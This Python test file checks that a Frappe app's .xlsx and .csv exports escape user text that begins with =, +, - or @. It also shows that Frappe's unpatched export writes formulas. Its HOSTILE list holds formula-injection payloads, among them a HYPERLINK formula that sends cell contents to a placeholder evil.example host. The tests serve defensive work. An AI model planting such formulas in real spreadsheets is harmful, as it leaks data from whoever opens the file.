"""Frappe's own exports of our records (list view Menu → Export, a report's Export): text a user typed
that starts with =, +, - or @ never becomes a formula in the .xlsx, and is quoted in the .csv."""

import csv
import io

import frappe
from frappe.tests.utils import FrappeTestCase
from openpyxl import load_workbook

from springoffer.core import categories as c
from springoffer.devtools.testing import make_enterprise, offer_doc
from springoffer.springoffer.doctype.region.test_permission_matrix import call

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-1+1", "@SUM(1+1)")


class TestExportEscaping(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.names = []
		for text in HOSTILE:
			enterprise = make_enterprise(region="娄底市", name=text, employees=50)
			offer_doc([enterprise], 20, date_sent="2023-03-02", response=c.REFUSED, response_date="2023-03-09",
				refusal_reason=c.REFUSAL_REASONS[0], refusal_detail=text).insert()
			cls.names.append(enterprise.name)

	def list_export(self, file_format_type):
		call(
			"frappe.desk.reportview.export_query",
			doctype="Enterprise", file_format_type=file_format_type, title="Enterprise",
			fields='["`tabEnterprise`.`name`", "`tabEnterprise`.`enterprise_name`"]',
			filters=frappe.as_json([["Enterprise", "name", "in", self.names]]),
		)
		return frappe.response.filecontent

	def assert_text_cells(self, content):
		wb = load_workbook(io.BytesIO(content))
		found = set()
		for ws in wb.worksheets:
			for row in ws.iter_rows():
				for cell in row:
					self.assertNotEqual(cell.data_type, "f", (cell.coordinate, cell.value))
					if cell.value in HOSTILE:
						found.add(cell.value)
		self.assertEqual(found, set(HOSTILE))

	def test_list_view_excel_export(self):
		self.assert_text_cells(self.list_export("Excel"))

	def test_list_view_csv_export_quotes_formulas(self):
		rows = list(csv.reader(io.StringIO(self.list_export("CSV").decode("utf-8"))))
		names = {row[2] for row in rows[1:]}
		self.assertEqual(names, {"'" + text for text in HOSTILE})

	def test_report_excel_export(self):
		filters = {"campaign": "2023年春季要约行动", "reporting_unit": "娄底市", "as_of_date": "2023-06-30", "column": "refused"}
		call(
			"frappe.desk.query_report.export_query",
			report_name="Spring Offer Annex Enterprises", file_format_type="Excel",
			filters=frappe.as_json(filters), visible_idx="[]", include_indentation=0,
		)
		self.assert_text_cells(frappe.response.filecontent)

	def test_without_the_override_frappe_writes_formulas(self):
		"""The door this closes: Frappe's own export, called directly, turns "=…" into a formula."""
		from frappe.desk import reportview

		frappe.local.form_dict = frappe._dict(
			doctype="Enterprise", file_format_type="Excel", title="Enterprise",
			fields='["`tabEnterprise`.`enterprise_name`"]', filters=frappe.as_json([["Enterprise", "name", "in", self.names]]),
		)
		reportview.export_query()
		wb = load_workbook(io.BytesIO(frappe.response.filecontent))
		kinds = {cell.data_type for ws in wb.worksheets for row in ws.iter_rows() for cell in row}
		self.assertIn("f", kinds)
